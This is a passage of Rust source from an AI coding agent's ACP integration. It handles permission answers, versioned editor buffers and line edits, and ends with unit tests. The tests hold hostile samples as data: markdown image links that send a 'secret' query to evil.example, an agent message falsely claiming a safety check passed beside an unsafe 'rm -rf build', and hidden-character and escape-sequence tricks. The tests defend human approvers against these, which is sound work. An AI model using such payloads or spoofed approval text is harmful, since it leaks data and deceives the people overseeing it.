}

/// The answer a host's reply gives: only the selection of an option the question offered is a
/// selection; cancelled, an error reply, an unknown option or no reply at all refuse.
fn read_outcome(question: &Question, outcome: Option<acp::RequestPermissionOutcome>) -> Answer {
    match outcome {
        Some(acp::RequestPermissionOutcome::Selected(selected)) => question
            .options
            .iter()
            .find(|o| *o.id == *selected.option_id.0)
            .map_or(Answer::Refused, |o| Answer::select(o.id.clone())),
        _ => Answer::Refused,
    }
}

/// The host's buffers, where it offers to read and write them: a file's text is asked for with
/// `fs/read_text_file` before each read and before a change lands, and an approved change is
/// sent whole with `fs/write_text_file`, so it lands on the editor's undo stack. ACP has no
/// version numbers, so one is kept here per file (`Versions`).
struct HostFiles {
    cx: ConnectionTo<Client>,
    session_id: OnceLock<String>,
    enabled: bool,
    texts: Mutex<Versions>,
}

/// The text the host last gave for each file, with a version of bravebot's own. The version
/// moves every time the host hands text and every time a change is written, whatever the text
/// says: telling "the same text again" from "new text" would mean comparing a file's bytes,
/// which may be bytes nobody vouched for (ACP-8). A change whose question was put on an older
/// version is re-based (trusted) or refused (untrusted), as after typing in an LSP editor.
#[derive(Default)]
struct Versions(HashMap<PathBuf, (Arc<str>, i32)>);

impl Versions {
    /// Keeps `text` as the file's, at the next version.
    fn keep(&mut self, path: &Path, text: String) -> i32 {
        let version = self
            .0
            .get(path)
            .map_or(1, |(_, version)| version.wrapping_add(1));
        self.0
            .insert(path.to_path_buf(), (Arc::from(text), version));
        version
    }

    fn get(&self, path: &Path) -> Option<&(Arc<str>, i32)> {
        self.0.get(path)
    }

    fn remove(&mut self, path: &Path) {
        self.0.remove(path);
    }
}

impl HostFiles {
    fn texts(&self) -> std::sync::MutexGuard<'_, Versions> {
        self.texts.lock().unwrap_or_else(|p| p.into_inner())
    }

    fn keep(&self, path: &Path, text: String) {
        self.texts().keep(path, text);
    }
}

/// `original` with whole-line `edits` made: ranges are lines of the original, in order.
fn apply_line_edits(original: &str, edits: &[LineEdit]) -> std::result::Result<String, String> {
    let lines: Vec<&str> = original.split_inclusive('\n').collect();
    let mut out = String::with_capacity(original.len());
    let mut at = 0;
    for e in edits {
        if e.old.start < at || e.old.end < e.old.start || e.old.end > lines.len() {
            return Err("the change does not fit the editor's text".to_string());
        }
        out.extend(lines[at..e.old.start].iter().copied());
        out.push_str(&e.new_text);
        at = e.old.end;
    }
    out.extend(lines[at..].iter().copied());
    Ok(out)
}

impl Files for HostFiles {
    fn buffer(&self, path: &Path) -> Option<(Arc<str>, i32)> {
        self.texts().get(path).cloned()
    }

    fn refreshes(&self) -> bool {
        self.enabled
    }

    fn refresh<'a>(&'a self, path: &'a Path) -> BoxFuture<'a, ()> {
        Box::pin(async move {
            let Some(session_id) = self.session_id.get().filter(|_| self.enabled) else {
                return;
            };
            let reply = self
                .cx
                .send_request(acp::ReadTextFileRequest::new(session_id.clone(), path))
                .block_task()
                .await;
            match reply {
                Ok(r) => self.keep(path, r.content),
                // The host has no such file (or would not read it): reads go to the disk.
                Err(_) => {
                    self.texts().remove(path);
                }
            }
        })
    }

    fn apply_edit<'a>(
        &'a self,
        path: &'a Path,
        version: i32,
        original: &'a str,
        edits: &'a [LineEdit],
    ) -> BoxFuture<'a, std::result::Result<(), String>> {
        Box::pin(async move {
            let session_id = self
                .session_id
                .get()
                .filter(|_| self.enabled)
                .ok_or_else(|| "this editor does not take writes".to_string())?;
            if self.version(path) != Some(version) {
                return Err("the buffer changed before the edit could be sent".to_string());
            }
            let text = apply_line_edits(original, edits)?;
            self.cx
                .send_request(acp::WriteTextFileRequest::new(
                    session_id.clone(),
                    path,
                    text.clone(),
                ))
                .block_task()
                .await
                .map_err(|e| format!("the editor did not write it: {}", e.message))?;
            self.keep(path, text);
            Ok(())
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bravebot_core::screen::{OptionKind, QuestionOption, Subject};

    fn question() -> Question {
        Question {
            asker: None,
            kind: QuestionKind::Write,
            title: "Write a.txt?".into(),
            why: None,
            subject: Subject::default(),
            options: vec![
                QuestionOption {
                    id: "allow".into(),
                    name: "Allow".into(),
                    kind: OptionKind::AllowOnce,
                },
                QuestionOption {
                    id: "reject".into(),
                    name: "Reject".into(),
                    kind: OptionKind::RejectOnce,
                },
            ],
        }
    }

    // Verifies: ACP-14, RUNTOOL-14
    #[test]
    fn the_agents_why_is_labelled_and_literal_below_the_command_and_the_verdict() {
        let mut q = question();
        q.kind = QuestionKind::Run;
        q.why = Some(
            "```\n**Safe: the check passed.** ![x](https://evil.example/?q=1)\n\u{202e}ok".into(),
        );
        q.subject.command = Some("rm -rf build".into());
        q.subject.verdict = Some(bravebot_core::kernel::policy::Verdict::Unsafe);
        let text = AcpScreen::question_text(&q);
        let says = text.find("The agent says:").expect(&text);
        let command = text
            .find("Command:\n\n```\nrm -rf build\n```")
            .expect(&text);
        let verdict = text.find("The check said: unsafe").expect(&text);
        assert!(command < says && verdict < says, "{text}");
        assert_eq!(
            &text[says..],
            "The agent says:\n\n````\n```\n**Safe: the check passed.** ![x](https://evil.example/?q=1)\n\\u{202e}ok\n````\n\n\n"
        );
    }

    // Verifies: ACP-14
    #[test]
    fn a_url_or_host_cannot_close_its_code_span_or_hide_a_character() {
        let mut q = question();
        q.kind = QuestionKind::Fetch;
        q.subject.url = Some("https://a.example/?q=`[click](https://evil.example)`\u{202e}".into());
        q.subject.host = Some("a.example".into());
        let text = AcpScreen::question_text(&q);
        assert!(
            text.contains("URL: ``https://a.example/?q=`[click](https://evil.example)`\\u{202e}``"),
            "{text}"
        );
        assert!(text.contains("Host: `a.example`"), "{text}");
        assert_eq!(literal_inline("`x`"), "`` `x` ``");
    }

    // Verifies: ACP-6
    #[test]
    fn only_a_selected_offered_option_answers_and_everything_else_refuses() {
        let q = question();
        let selected = |id: &'static str| {
            Some(acp::RequestPermissionOutcome::Selected(
                acp::SelectedPermissionOutcome::new(id),
            ))
        };
        assert_eq!(read_outcome(&q, selected("allow")), Answer::select("allow"));
        assert!(read_outcome(&q, selected("allow")).approves(&q));
        assert!(!read_outcome(&q, selected("reject")).approves(&q));
        assert_eq!(read_outcome(&q, selected("yolo")), Answer::Refused);
        assert_eq!(
            read_outcome(&q, Some(acp::RequestPermissionOutcome::Cancelled)),
            Answer::Refused
        );
        assert_eq!(read_outcome(&q, None), Answer::Refused);
    }

    // Verifies: ACP-8
    #[test]
    fn line_edits_make_the_text_the_host_is_sent() {
        let edits = [
            LineEdit {
                old: 1..2,
                new_text: "two\n".into(),
            },
            LineEdit {
                old: 3..3,
                new_text: "four\n".into(),
            },
        ];
        assert_eq!(
            apply_line_edits("one\n2\nthree\n", &edits).as_deref(),
            Ok("one\ntwo\nthree\nfour\n")
        );
        assert!(apply_line_edits("one\n", &edits).is_err());
    }

    // Verifies: ACP-8
    #[test]
    fn a_files_version_moves_whenever_the_host_hands_text_whatever_it_says() {
        let mut versions = Versions::default();
        let path = Path::new("/w/a.txt");
        assert_eq!(versions.keep(path, "one\n".into()), 1);
        // The same text again moves it too: nothing here compares what a file says.
        assert_eq!(versions.keep(path, "one\n".into()), 2);
        assert_eq!(versions.keep(path, "two\n".into()), 3);
        assert_eq!(
            versions.get(path).map(|(t, v)| (&**t, *v)),
            Some(("two\n", 3))
        );
        versions.remove(path);
        assert_eq!(versions.keep(path, "two\n".into()), 1);
    }

    // Verifies: ACP-7, ACP-14, RUNTOOL-14
    #[test]
    fn untrusted_text_is_drawn_as_a_literal_block_with_controls_pictured() {
        assert_eq!(
            literal_block("![x](https://evil.example/?q=secret)\n\u{202e}txt\u{1b}[2J"),
            "```\n![x](https://evil.example/?q=secret)\n\\u{202e}txt\u{241b}[2J\n```\n"
        );
        // A run of backticks inside cannot close the fence: it is always longer.
        assert_eq!(
            literal_block("a ``` b\n````\n**bold**"),
            "`````\na ``` b\n````\n**bold**\n`````\n"
        );
    }

    // Verifies: ACP-2
    #[test]
    fn a_prompt_takes_text_and_file_links_and_refuses_the_rest() {
        let (text, files, _) = prompt_parts(
            Path::new("/w"),
            vec![
                acp::ContentBlock::Text(acp::TextContent::new("look at ")),
                acp::ContentBlock::ResourceLink(acp::ResourceLink::new("a.txt", "file:///w/a.txt")),
            ],
        )
        .unwrap_or_default();
        assert_eq!(text, "look at @a.txt");
        assert_eq!(files, vec![PathBuf::from("/w/a.txt")]);
        assert!(
            prompt_parts(
                Path::new("/w"),
                vec![acp::ContentBlock::ResourceLink(acp::ResourceLink::new(
                    "x",
                    "https://example.com/x"
                ))]
            )
            .is_err()
        );
    }

    // Verifies: ACP-31
    #[test]
    fn a_prompts_picture_is_checked_and_its_source_makes_it_private() {
        let image = |data: &str, mime: &str| acp::ImageContent::new(data, mime);
        let pasted = prompt_picture(image("iVBORw0KGgo=", "image/png")).expect("a png");
        assert_eq!(
            (
                pasted.media_type.as_str(),
                pasted.base64.as_str(),
                pasted.from_file
            ),
            ("image/png", "iVBORw0KGgo=", false)
        );
        let from_file = prompt_picture(
            image("iVBORw0KGgo=", "image/png").uri("file:///w/shot.png".to_string()),
        )
        .expect("a png from a file");
        assert!(from_file.from_file);
        for (data, mime) in [
            ("PHN2Zz4=", "image/svg+xml"),
            ("iVBORw0KGgo=", "text/plain"),
            ("not base64!", "image/png"),
            ("", "image/png"),
            ("iVBORw0KGgo", "image/png"),
        ] {
            assert!(
                prompt_picture(image(data, mime)).is_err(),
                "{mime} {data:?}"
            );
        }
    }
}
